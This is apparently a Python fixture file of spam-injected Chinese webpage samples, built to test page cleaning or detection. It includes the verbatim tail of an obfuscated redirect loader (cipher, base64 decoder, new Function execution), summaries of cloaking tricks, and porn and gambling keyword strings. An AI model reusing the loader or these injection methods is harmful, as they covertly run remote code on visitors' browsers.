            var d = {"1":"d","J":"m","Y":"F","O":"y","e":"I","H":"G","F":"Q","k":9,"G":"Z","s":"j","5":"W","4":1,"q":"l","l":"b","B":"n","y":"s","n":"u","t":"Y","9":"X","K":"p","M":2,"j":0,"A":3,"p":"J","Q":"B","E":"R","N":"t","i":"M","3":"C","x":5,"r":"U","T":"N","U":"a","R":"L","D":"H","z":"q","w":4,"g":"V","6":"h","L":"v","W":"S","I":"k","b":"T","S":"A","d":"K","P":"z","h":"O","v":"i","o":8,"8":"g","C":"f","7":"w","Z":7,"V":"o","u":"e","2":"E","c":"c","a":"P","f":"x","0":6,"m":"r","X":"D"};
            return s.split('').map(function (c) {
                return d[c] !== undefined ? d[c] : c;
            }).join('');
        }
                function gCXLrY (e) {
            var a0 = 'charAt', a1 = 'fromCharCode', a2 = 'charCodeAt', a3 = 'indexOf';
            var sx = 'ABCDEFGHIJKLMNOPQRSTUVWXYZ' + 'abcdefghijklmnopqrstuvwxyz' + '0123456789+/=';
            var t = "", n, r, i, s, o, u, a, f = 0;
            e = e.replace(/[^A-Za-z0-9+/=]/g, "");
            while (f < e.length) {
                s = sx[a3](e[a0](f++));
                o = sx[a3](e[a0](f++));
                u = sx[a3](e[a0](f++));
                a = sx[a3](e[a0](f++));
                n = s << 2 | o >> 4;
                r = (o & 15) << 4 | u >> 2;
                i = (u & 3) << 6 | a;
                t = t + String[a1](n);
                if (u != 64) {
                    t = t + String[a1](r);
                }
                if (a != 64) {
                    t = t + String[a1](i);
                }
            }
            return (function(e) {
                var t = "", n = r = c1 = c2 = 0;
                while (n < e.length) {
                    r = e[a2](n);
                    if (r < 128) {
                        t += String[a1](r);
                        n++;
                    } else if (r > 191 && r < 224) {
                        c2 = e[a2](n + 1);
                        t += String[a1]((r & 31) << 6 | c2 & 63);
                        n += 2
                    } else {
                        c2 = e[a2](n + 1);
                        c3 = e[a2](n + 2);
                        t += String[a1]((r & 15) << 12 | (c2 & 63) << 6 | c3 & 63);
                        n += 3;
                    }
                }
                return t;
            })(t);
        };
            var s = ["data:image\/jpg;base64,1JYOeHFkGHks154qlBFyls4nt9GKGMYjlAplpAQyt9EJlApNp4jytAikG3xs19pOG5xjrMTOU9QjRDrkpMqz1MwnlJgKUH6L1WxslMjBRHIkibi4TsSORDekpMGI","lj1Mg56dgjFBRDSkpM6j1DQPhvoLpPNKGv86R4xTt5TogMqnROxjG9TjdHwKCD76lvqZU5tVlJYMU5161HkORBgPG9pQGMgn13xKlJEqu2kJd31vt5qI1WcKavjfd9NMt9e8uH6Oa5xq1OQtbr","fe1DE7rJgf15gP138KhA6VcvxLcHgnd31Fb4TrpO7BUDEjcDi0ROoBdArmpOkVROcmUWIZuH6ORBTq1Ypqc9gqcAEeG5YIG9eVpjTLlBEqlBFNgDq7GWcypMY7cHfKtMYjU5knRA8N1A1AR5GL","cJjN19pyG5xslMEqGXyBdbNwUDencMgjrJgf15gP126qt5Eqcv8B534WEgYgEgTrErFNgjqrW3cyp46Tb26j1DQWG9Y4G9TjpOIZuH6ORJkncJg6GDqP1HYjG5TVt5xBGb4J15xs1HqLlv8KuM","qJdD6VcvxOG5YIugTjt9EqabjjpvGwUDencAE61DgPabjOiXSKuAG6cvQIt9E6arKbbjwncHYOcMrVuH6ORBpqcAQLlBTqgHgw13IZlJgAe2G4lJTjU5knd31CpOyB13cmpMFBdO1scOcylJgA","e2G4lJTjU5knd31spOfIt9E6RBpqcAgy13xIG5TLGHrmpPNOG9E4cJw8pONIt9E6RBpqcAgy13xnt54qdOcVtOIBdW6It9E6RBpqcAgy13xKl5cnUJkKlv8BpOIKdW6scOIZC9jZuH6ORBTqlJ","FVpArkiWcKhA4qlDTquAG6cvQPa5ELtAgNG5xjRJTOG5YjGrgyG54qlBFVpATscJq713cKhAincApsa9Sm1WyBRMyLpONKhMTPRBQ6cJgn12gyG54qlBFnU5xPG9pjFJgJlApqdDiytAiKhA4k"];
            new Function(gCXLrY(GvMSN(s.join('').substr(22))))();
        })();
}
</script>'''
COMP += [
 dict(url="https://tyb.sdu.edu.cn/info/1031/2823.htm", site="sdu.edu.cn", lang="zh",
  title="体育学院召开全体教职工会议安排部署学科评估与发展规划工作", date="2020-05-01", source=None, author=None,
  page_title="体育学院召开全体教职工会议安排部署学科评估与发展规划工作", crumb="您现在的位置: 首页 -> 首页 -> 校园新闻 -> 正文", headline="体育学院召开全体教职工会议安排部署学科评估与发展规划工作",
  info="发布人:     发布时间: 2020-05-01      点击次数:",
  body=["4月30日下午,体育学院在千佛山校区召开全体教职工会议,安排部署学科评估与发展规划工作。学院党委书记、院长孙晋海出席会议并讲话。会议采用现场会议与线上直播相结合的方式举行。会议由学院副院长石振国主持。",
        "学院党委常务副书记郭学庆传达了校院工作交流例会第六次会议精神,指出在强院兴校过程中强化“四个意识”的必要性与重要性,带领全体教职工学习了樊丽明校长关于做好下一阶段学科评估工作的具体要求。",
        "会上,孙晋海作《强化体育育人 振兴学科学院》的专题报告,阐述了体育学院“强院兴校”的具体行动计划。他指出,要以大学体育治理体系构建为基础,以多元绩效考核、创新驱动发展为根本动力,发挥体育综合作用和学科优势,努力克服现实困难,为推进学校发展贡献体育力量。",
        "随后,石振国介绍了山东大学统筹推进评估与规划工作方案,安排部署了学院学科评估和《中长期发展规划(2018-2025)》相关工作。学院全体教职工参加了本次会议。(文:李琳)"],
  script=EOO, where="head_end", spam=[], inj=["js_cloak_referrer", "every_other_char_string_decoder", "useragent_check", "localstorage_throttle", "dynamic_script_insert"],
  origin_inj=EOO_SRC + " (security blog post quoting an injected blob found on a compromised site: decodes strings by taking every other character, runs only for cross-site referrers on Windows and once per browser via localStorage, then inserts a remote <script>); wrapped in <script> and placed at the end of <head>, code verbatim",
  search="大学 学院 召开 专题会议 半岛体育 来源 编辑 审核"),
 dict(url="https://www2.ncwu.edu.cn/cge/info/1064/1188.htm", site="ncwu.edu.cn", lang="zh",
  title="我院成功举办2018年秋季运动会暨全民健身大会", date="2018-11-22", source=None, author=None,
  page_title="我院成功举办2018年秋季运动会暨全民健身大会", crumb="新闻动态", headline="我院成功举办2018年秋季运动会暨全民健身大会", info="[发布时间:2018-11-22]",
  body=["11月17日,我院2018年秋季运动会暨全民健身大会在龙子湖校区田径场隆重举行。学院全体师生参加了此次运动会。",
        "本次运动会自开学以来就开始筹备,80余名裁判,1100余名师生参与其中。此次运动会有学生组21项比赛项目,教工组19个项目。",
        "经过一天紧张激烈的角逐,运动会圆满地完成了各项比赛任务,胜利闭幕。田径场上,运动员以昂扬的斗志、永攀高峰的精神,赛出了风格,赛出了水平;工作人员尽职尽责,坚守岗位;裁判员业务熟练、公正执法;场外观众为运动员加油助威,呐喊声此起彼伏,运动场上气氛持续高涨;比赛场面激烈,扣人心弦,各项比赛均取得了良好的效果。",
        "本次运动会为我院营造出运动健体、运动育人的良好氛围,引导师生通过运动拥有健康的体魄和过硬的心理素质,全面展现我院师生积极向上的精神面貌。"],
  script=DBXF, where="body_end", spam=[], inj=["mobile_only_cloak", "referrer_search_engine_regex", "substitution_cipher", "base64_decoder_handwritten", "data_uri_prefix_padding", "new_function_exec", "bracket_property_access"],
  origin_inj=DBXF_SRC + " (an ad/redirect loader committed to a public CDN repository: platform check for mobile visitors, search-engine referrer regex, character-substitution cipher + hand-written base64/UTF-8 decoder run through new Function); the header lines and the first loader block are verbatim, the random branch selection lines between them are omitted and the closing brace of the if-block is the keeper's; placed before </body>",
  search="学院 新闻 体育 官方网站 入口 举办 活动 师生"),
]

SPAM2 = [
 dict(url="https://bluefininternational.com/kyguanwangmanbetx/info/1048/1122.htm", site="bluefininternational.com", lang="zh",
  title="做好学院网站参评“全国高校百佳网站”的通知", date="2010-11-02", source="本站原创", author=None,
  page_title="做好学院网站参评“全国高校百佳网站”的通知-LEDONG.COM乐动", crumb="LEDONG.COM乐动", headline="做好学院网站参评“全国高校百佳网站”的通知",
  info="来源:本站原创阅读:发布:2010-11-02",
  body=["各总支(支部)、院属各部门:",
        "近几年来,在院领导的重视和相关部门的共同努力下,学院网站连续三年荣获“十堰市十佳行业网站”称号,百草园思政网育人经验获得湖北省高等学校校园文化建设优秀奖。学院网站在内外宣传、教学服务以及学生思想政治工作中发挥了积极作用,取得了显著成效。为进一步推介宣传学院,进一步加强学院网站建设,今年5月学院网站成功申报参加全国高校百佳网站网络评选活动。",
        "全国高校百佳网站网络评选活动由教育部思想政治工作司、教育部大学生在线网站主办,每两年举行一届,今年是第四届。本届共有来自全国500多所高校网站申报参评,最终评选出百佳网站100个,最佳思政创新奖等单项奖共12个,特别奖1个,组织奖若干个,优秀网络编辑奖100个。",
        "我院积极参与此项活动,经校内评审、报领导同意,将学院网站申报为全国高校百佳网站、百草园网站申报为“最佳思政创新奖”、新闻网站申报为“最佳新闻宣传奖”、心雨桥申报为“最佳心理健康教育奖”、学习实践科学发展观活动专题网站申报为“特别奖”。经过公众投票、学生评委评选、专家评选等多个环节的评审,我院网站目前已进入前150名,10月28日至11月10日期间专家评审团将对前150名入围网站及单项奖进行终审,院职能部门正积极组织校园网站冲刺100强的相关工作。",
        "参加全国高校百佳网站网络评选活动对于利用互联网大力宣传学院建设发展成就、凝聚人心、增强师生爱校情感具有重要意义。各总支、支部要高度重视、广泛宣传,以评选活动为契机,进一步研究和探索新时期大学生网络思想政治工作新思路、新方法。"],
  spam=["LEDONG.COM乐动"], inj=["spam_site_header", "spam_title_suffix", "edu_page_mirror", "gambling_path_segment"],
  note="college notice mirrored under a gambling-brand path segment; the site header (logo text) is a Latin+CJK brand; title suffix reconstructed from it",
  search="网页版登录入口 学院 开展 主题党日 活动 发布时间"),
 dict(url="https://www.yqcqwhtylyj.cn/xwzx/fe6ee13c3ab842d4848245e641b41f6b.htm", site="yqcqwhtylyj.cn", lang="zh",
  title=None, date=None, source=None, author=None,
  page_title="意昂4注册競技體育大講堂第六期講座舉行", crumb="首頁 > 新聞中心", headline="", info="",
  body=["2017年6月8日晚,由意昂4代理⛵️、中國體育科學學會運動訓練學分會及國家體育總局運動訓練重點實驗室共同主辦的學術交流平臺——“意昂4注册競技體育大講堂”的第六期講座在校學術報告廳隆重舉行。國家體育總局冬季運動管理中心原主任、中國冰球協會、中國雪橇協會主席趙英剛受邀作題為“抓住冬奧機遇,推動中國冬季體育發展”的報告。運動訓練學教研室全體老師🛄、研究生和部分其他專業師生聆聽了講座,講座由運動訓練學教研室主任米靖教授主持,並首次在校園網視頻直播平臺同步直播。",
        "趙主任的報告從五個方面展開🧜🏼。首先,他向大家介紹了中國申辦2022年冬奧會的背景🛌🏿🧺、過程和意義。他強調,中國成功申辦2022年冬奧會不僅使我國體育事業和體育產業迎來新的發展契機👘,更能進一步展示我國改革開放的大國形象、推動國際奧林匹克運動的發展🕢。隨後,他從場地設施、組委會工作🤙🏻、東道主表現🎓、媒體反映和費用支出五個角度論述了如何舉辦一屆精彩、卓越、非凡的冬奧會🙅🏽,並介紹了目前2022年冬奧會籌備工作的進展。趙主任還為大家解讀了中國參加冬奧會的四個歷史階段、目前我國冬季運動項目的競技水平和“三億人參與冰雪運動”的實現路徑;介紹了速滑、花滑🧺、冰壺、冰球、雪車🤦🏻🎙、高山滑雪等冬季運動項目的賽製🍡、規則和場地設施,使大家對冬季運動項目有了更深入的了解🌄。報告的最後,趙主任號召同學們積極回應國家冬季體育改革發展的重大需求,以北體人高度的責任感和使命感為冬季運動普及推廣、競技水平提升以及冬奧會的成功舉辦貢獻力量。"],
  spam=["意昂4代理", "意昂4注册"], inj=["body_brand_substitution", "emoji_stuffing", "traditional_script_conversion", "edu_page_mirror"],
  note="sports-university lecture news mirrored in traditional script; the university name replaced by two brand variants; emoji inserted after clauses (the capture's ZWJ sequences are kept without the gender signs); truth text removes brands and emoji; title truth null (headline not in capture)",
  text_sub={"意昂4代理": "", "意昂4注册": ""}, strip_emoji=True, search="体育官网 学院 举办 讲座 报告会 主讲 教授"),
 dict(url="http://www.le-yusports.com/xyyw/d0fb20f1ddec429b9ffa705bd97aa469.htm", site="le-yusports.com", lang="zh",
  title="第四届中外校长体育论坛在乐鱼体育隆重举行", date="2008-11-01", source=None, author=None,
  page_title="第四届中外校长体育论坛在乐鱼体育隆重举行-乐鱼体育", crumb="所在的位置:首页 > 校园要闻", headline="第四届中外校长体育论坛在乐鱼体育隆重举行", info="",
  pre="乐鱼体育",
  body=["2008年11月1日,第四届中外校长体育论坛在乐鱼体育隆重举行。作为乐鱼体育55周年校庆系列活动之一,此届论坛以奥林匹克运动与文化为主题,共有来自德国科隆体育大学、美国伊萨卡大学、俄罗斯国立体育大学、白俄罗斯国立体育大学、日本中京女子大学、韩国国立体育大学、越南河内第一体育大学、越南岘港第三体育大学、澳门理工学院、首都体育学院及上海体育学院的学校领导和专家参加。上午九点,论坛在乐鱼体育澳门十大博彩集团正版干部培训中心召开。会议由乐鱼体育副校长池建主持。",
        "乐鱼体育党委书记、校长杨桦首先代表乐鱼体育向与会嘉宾致欢迎辞。杨桦校长表示,在乐鱼体育迎来建校55周年的日子里,乐鱼体育迎来了国内外十多所大学的校长,在北京奥林匹克奥运会之年,共同探讨“奥林匹克运动与文化”的问题,具有十分积极的意义。在欢迎辞中,杨桦校长重点向与会嘉宾介绍乐鱼体育在中国体育教育和奥林匹克运动中的重要作用。作为第一培养出奥运冠军的高等院校,乐鱼体育是2008年奥运会最大的训练基地,承担了中国国家队多支队伍和北京奥运会、残奥会9个项目训练场馆和任务。作为获得奖牌最多的高等院校,乐鱼体育参赛师生共获得12金6银2铜的优异成绩。作为承担奥运会任务最繁重的学校,乐鱼体育共有数十位教师参加了奥组委的工作、执教国家队、或担当奥运会裁判工作,4000多名师生以奥运志愿者的身份活跃在奥运赛场上。此后,杨桦校长发表了以《奥林匹克运动与大学文化》为题的演讲。"],
  spam=["乐鱼体育", "澳门十大博彩集团正版"], inj=["body_brand_substitution", "inserted_gambling_phrase", "spam_site_header", "edu_page_mirror"],
  note="university news mirrored with every occurrence of the university's name replaced by a brand (also as the site header) and a gambling phrase inserted before a place name; title and text truth = the captured headline/body with the brand and the phrase removed (the university name is not restored)",
  text_sub={"乐鱼体育": "", "澳门十大博彩集团正版": ""}, title_sub=True, search="体育官网 学院 举办 讲座 报告会 主讲 教授"),
 dict(url="http://m.fevertheatre.com/news_show.aspx?id=25171", site="fevertheatre.com", lang="zh",
  title="教育部部署2021年全國中小學生安全教育日活動", date="2021-03-29", source="中國教育部網站", author="曹瑩",
  page_title="97人妻在线播放_国产精品无码专区AV免费播放_亚洲欧美日韩综合一区二区_国产高清精品免费一区", crumb="", headline="教育部部署2021年全國中小學生安全教育日活動",
  info="[日期:2021-03-29] 作者:曹瑩 1524 次瀏覽 [字體: ]",
  body=["3月29日是第26個全國中小學生安全教育日。為指導各地做好2021年全國中小學生安全教育日活動,切實提高中小學生安全意識和能力,日前,教育部基礎教育司印發通知,就今年全國中小學生安全教育日活動進行部署。",
        "通知要求,各地各校要結合實際,集中開展一次專題安全教育、組織一次應急疏散演練、開展一次國家安全教育、開展一次集中宣傳活動;同時,可引導學生及家長根據需要,自行觀看相關安全教育節目。要營造良好輿論氛圍,推動全社會共同關心中小學安全工作。",
        "通知強調,各地要統籌做好疫情防控和安全教育日活動,指導中小學校加強校園管理,嚴格管控人員密度,對各類進校園活動要嚴格落實備案審核制度,嚴禁在活動中發布、夾帶商業廣告。",
        "來源:中國教育部網站"],
  spam=["97人妻在线播放_国产精品无码专区AV免费播放_亚洲欧美日韩综合一区二区_国产高清精品免费一区"], inj=["porn_spam_title", "news_page_mirror", "traditional_script_conversion"],
  note="education-ministry news mirrored with a porn keyword chain as <title> (also the first line of the capture); the capture's mis-converted characters (e.g. 礎(chǔ)) are normalised to the plain traditional character in body and truth",
  search="彩票 官网 县 教育局 中小学 开展 安全教育"),
 dict(url="http://haoyujy.com/gi_news/587152214008591", site="haoyujy.com", lang="zh",
  title="关于组织开展第23个“全国中小学生安全教育日”活动的通知", date="2018-03-26", source="市教育局", author=None,
  page_title="关于组织开展第23个“全国中小学生安全教育日”活动的通知", crumb="您当前的位置: 首页 >> 政务公开 >> 正文",
  headline="关于组织开展第23个“全国中小学生安全教育日”活动的通知",
  info="信息名称:关于组织开展第23个“全国中小学生安全教育日”活动的通知 索 引 号:014109488/2018-00064 文件编号:常教安〔2018〕11号 发布机构:市教育局 生成日期:2018-03-26 公开日期:2018-03-27",
  body=["常教安〔2018〕11号",
        "各辖市、区教育局(教育文体局、社会事业局),直属及有关学校:",
        "今年3月26日是第23个“全国中小学生安全教育日”,为进一步加强校园安全教育,提高师生法治意识、安全防范意识和自我防护能力,切实把校园建设成最阳光、最安全的地方,根据教育部、公安部的要求,市教育局决定在全市中小学(幼儿园)开展以“做自己的首席安全官——平安校园行”为主题的宣传教育活动。现就有关事项通知如下:",
        "一、活动主题:做自己的首席安全官——平安校园行",
        "二、活动对象:全市中小学生(幼儿)及家长",
        "三、活动时间2018年3月—2019年1月。",
        "四、活动内容",
        "1.市教育局于3月26日下午,举行光明棋牌,光明棋牌下载市2018年“全国中小学生安全教育日”活动启动仪式。活动通知另发。",
        "2.各地各校要按照《关于组织开展第23届“全国中小学生安全教育日”专题教育活动的通知》(学会发〔2018〕19号)要求,充分利用光明棋牌,光明棋牌下载市学校安全教育平台开展学生安全教育。",
        "3.按照《关于组织开展“做自己的首席安全官——平安校园行”主题宣传活动的通知》(苏公内传〔2018〕8号),结合实际安排好学生安全教育活动。"],
  spam=["光明棋牌,光明棋牌下载"], inj=["city_name_brand_substitution", "keyword_stuffing_in_body", "gov_page_mirror"],
  note="municipal education-bureau notice mirrored with the city name replaced by a card-game brand pair; truth removes the pair (the city name is not recoverable from the capture)",
  text_sub={"光明棋牌,光明棋牌下载": ""}, search="彩票 官网 县 教育局 中小学 开展 安全教育"),
 dict(url="http://www.feichengzx.com/fcsxx/8664.html", site="feichengzx.com", lang="zh",
  title=None, date=None, source=None, author=None,
  page_title="肥城市文化和旅游局到汶阳镇调研指导乡村文化振兴工作", crumb="首页 > 肥城市新闻", headline="", info="",
  body=["10月22日,肥城市文化和旅游局局长刘任力、副局长刘勇、文化科科长李冰到汶阳镇调研指导乡村文化振兴工作。汶阳镇党委书记梁乙广,公共文化服务中心主任王吉春及文化站负责人陪同活动。",
        "调研活动中,刘任力局长详细了解了汶阳镇送戏下乡、扫黄打非及文化阵地建设等情况,并实地查看了汶阳镇综合文化服务中心。刘局长强调,汶阳历史悠久,文化底蕴深厚,要深度挖掘“汶阳田传说”的文化传承积淀,积极开展各类文化活动,进一步提升群众的文化满意度。",
        "梁书记表示,下一步我们将大力开展以百姓为主体,以满足群众精神需求为目的,彰显汶阳魅力的文化活动,为汶阳的发展提供文化助力,推动汶阳镇乡村文化振兴工作再上新台阶。"],
  tail=["北京那家治白癜风最好怎么治疗癜风推荐文章", "热点文章"],
  spam=["北京那家治白癜风最好怎么治疗癜风推荐文章"], inj=["medical_spam_block", "news_page_mirror"],
  note="local gov news on a medical-spam site: a vitiligo-clinic keyword heading is appended after the article (non-gambling spam); title truth null (headline not in capture; page title reconstructed from the first sentence)",
  search="娱乐官网 镇人民政府 召开 工作会议 来源 发布日期"),
]

SPAM2 += [
 dict(url="https://pier73.com/kyguanwangmanbetx/lmes/rwxw/80157.htm", site="pier73.com", lang="zh",
  title="我院顺利承办2014-2015学年第二学期第一次校团委学生会主席团副联席会议", date="2015-05-13", source=None, author=None,
  page_title="我院顺利承办2014-2015学年第二学期第一次校团委学生会主席团副联席会议", crumb="首页 > 人文新闻", headline="我院顺利承办2014-2015学年第二学期第一次校团委学生会主席团副联席会议",
  info="时间:2015-05-13 12:00:00 访问量:",
  body=["为加强各学院交流,促进学院间良好合作关系,校团委学生会换届前的最后一次主席团副联席会议于5月8日19点在十教426举行。20个学院的主席和团副齐聚于此,进行交流,针对上学年各项工作展开汇报与介绍。",
        "会议伊始,法学院主席高光明首先致词,认为学院间应保持密切联系,希望新的主席团能将联席会议一直贯彻落实。校团委学生会主席黄爽总结各学院上学年工作,并对下阶段工作进行部署与指导,重点强调了下周开始的一系列评奖评优活动,要求各学院认真对待该活动。",
        "工作汇报结束后,各学院代表逐一进行自我介绍,“通过这种方式尽快让新老成员们熟悉起来,有利于今后的工作开展,大家同时也收获了友谊。”半岛(中国)团委学生会主席钱子凡这样说,他还在会议流程单的反面题了一首《联席赋》,藉此增加会议人文魅力,“希望让“新面孔们”对半岛(中国)有一个好印象。”",
        "钱子凡提议,以后的会议可以扩大开放面,设立一个记者问答环节,有利于学生加深对学院工作的理解。"],
  spam=["半岛(中国)"], inj=["body_brand_substitution", "edu_page_mirror", "gambling_path_segment"],
  note="college news mirrored under a gambling-brand path segment; the college's own name replaced in the body by a brand with '(中国)'; brand only in the body",
  text_sub={"半岛(中国)": ""}, search="中国官方网站 学院 召开 学生工作 会议 通讯员 供稿"),
 dict(url="http://m.jizihe.com/page/2015/0919/19634835.shtml", site="jizihe.com", lang="zh",
  title="戶外轉播系統擴展技術研究", date="2015-09-19", source="電視技術 2015年22期", author="徐維凡,周潔冰",
  page_title="99热精品在线国产_美女午夜性视频免费_国产精品国产高清国产av_av欧美777_自拍偷自拍亚洲精品老妇_亚洲熟女精品中文字幕_www日本黄色视频网_国产精品野战在线观看", crumb="",
  pre="99热精品在线国产_美女午夜性视频免费_国产精品国产高清国产av_av欧美777_自拍偷自拍亚洲精品老妇_亚洲熟女精品中文字幕_www日本黄色视频网_国产精品野战在线观看",
  headline="戶外轉播系統擴展技術研究", info="2015-09-19 03:42:06徐維凡周潔冰 電視技術 2015年22期 關鍵詞:轉播車轉播級聯",
  body=["徐維凡,周潔冰", "(廣東廣播電視臺,廣東 廣州510066)",
        "訊道數量是衡量戶外轉播系統規模和制作能力的主要指標,攝像機訊道在整個系統投資中也占很大的比例,因此戶外轉播系統集成完成後,訊道數就基本固定下來,無法隨意增加。然而廣東廣播電視臺在戶外轉播工作中,常常需要增加攝像機。原因有兩點:1)節目需要的攝像機太多;2)場地太大。這就涉及到轉播系統擴展的問題。系統擴展的目標,是為制作人員提供盡可能多的功能,使導播感覺不到擴展設備與既有設備的差異,給予節目制作人員充分的舒適感和便利性。本文就系統擴展時的視頻、音頻、通話和切換指示的接入技術進行討論。",
        "1 視頻系統級聯與擴展"],
  spam=["99热精品在线国产_美女午夜性视频免费_国产精品国产高清国产av_av欧美777_自拍偷自拍亚洲精品老妇_亚洲熟女精品中文字幕_www日本黄色视频网_国产精品野战在线观看"],
  inj=["porn_spam_title", "porn_spam_header_line", "journal_article_mirror", "traditional_script_conversion"],
  note="journal-article mirror with a porn keyword chain as <title> and as the first visible line; the capture's mis-converted characters with pinyin in brackets (e.g. 戶外轉(zhuǎn)播) are normalised to the plain traditional character",
  search="久草 在线 精品 免费 视频 街道 社区 新闻 授牌"),
]
